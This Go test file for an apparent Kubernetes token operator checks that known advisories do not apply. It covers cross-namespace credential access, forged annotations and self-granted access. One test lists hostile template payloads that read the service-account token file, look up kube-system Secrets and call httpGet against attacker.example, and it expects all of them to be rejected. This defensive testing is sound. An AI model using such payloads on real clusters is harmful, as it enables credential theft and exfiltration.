package test

import (
	"fmt"
	"testing"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/sfmctoken/sfmctoken-operator/api/v1alpha1"
	"github.com/sfmctoken/sfmctoken-operator/internal/sfmctest"
)

// TestAdvisories shows that what was published about other operators that handle credentials isn't true of this one.
func TestAdvisories(t *testing.T) {
	t.Run("GHSA-fcxq-v2r3-cc8h", credentialsOfAnotherNamespaceNeedAGrant)
	t.Run("GHSA-77v3-r3jw-j2v2", aServedObjectThatTurnsToAnotherNamespaceLosesItsToken)
	t.Run("CVE-2026-42875", nobodyGrantsHimselfAccess)
	t.Run("CVE-2026-42876", targetsOfAnotherTypeAreNeverTakenOver)
	t.Run("CVE-2026-34984", templatesReachNothingOutside)
}

func credentialsOfAnotherNamespaceNeedAGrant(t *testing.T) {
	w := newWorld(t)
	platform := w.platform()
	w.token("journeys", from(platform, "package"))
	w.says("journeys", denied...)
	w.Expect(w.secret("journeys")).To(BeNil())
	w.Expect(w.sfmc.Count()).To(BeZero())
}

func aServedObjectThatTurnsToAnotherNamespaceLosesItsToken(t *testing.T) {
	w := newWorld(t)
	platform := w.platform() // the same package: the token that is held would do
	token := w.token("journeys")
	w.ready("journeys")
	change(w, token, from(platform, "package"))
	w.emptied("journeys")
	// Nor does a target that claims to have been served from there help.
	forged := w.secret("journeys")
	change(w, forged, func(secret *corev1.Secret) {
		secret.Annotations["sfmctoken.dev/issued"] = `{"owner":"journeys","credentials":"` + platform + `/package/uid/1","identity":"00"}`
	})
	w.emptied("journeys")
	w.Expect(w.sfmc.Count()).To(Equal(1))
}

func nobodyGrantsHimselfAccess(t *testing.T) {
	w := newWorld(t)
	platform := w.platform()
	w.grant(w.ns, "mine")
	w.grant(w.ns, "mine-too", func(g *v1alpha1.SFMCAccessGrant) {
		g.Spec.From = []v1alpha1.AccessGrantFrom{{NamespaceSelector: &metav1.LabelSelector{}}}
	})
	w.sfmc.AddFaults(sfmctest.Fault{Refusal: sfmctest.InternalError, Times: sfmctest.Forever}) // nobody gets this far
	w.token("journeys", from(platform, "package"))
	w.says("journeys", denied...)
	w.Expect(w.sfmc.Count()).To(BeZero())
}

func templatesReachNothingOutside(t *testing.T) {
	w := newWorld(t)
	for i, template := range []string{
		`{{ env "HOME" }}`, `{{ expandenv "$HOME" }}`, `{{ getHostByName "attacker.example" }}`, `{{ readFile "/var/run/secrets/kubernetes.io/serviceaccount/token" }}`,
		`{{ lookup "v1" "Secret" "kube-system" "any" }}`, `{{ httpGet "https://attacker.example" }}`, `{{ call .AccessToken }}`, `{{ .ClientSecret }}`,
	} {
		name := fmt.Sprintf("journeys-%d", i)
		w.token(name, func(token *v1alpha1.SFMCToken) {
			token.Spec.Target = &v1alpha1.Target{Template: &v1alpha1.TargetTemplate{Data: map[string]v1alpha1.TemplateText{"further": v1alpha1.TemplateText(template)}}}
		})
		w.says(name, "Ready=False TemplateInvalid", "Stalled=True TemplateInvalid")
	}
	w.Expect(w.sfmc.Count()).To(BeZero())
}
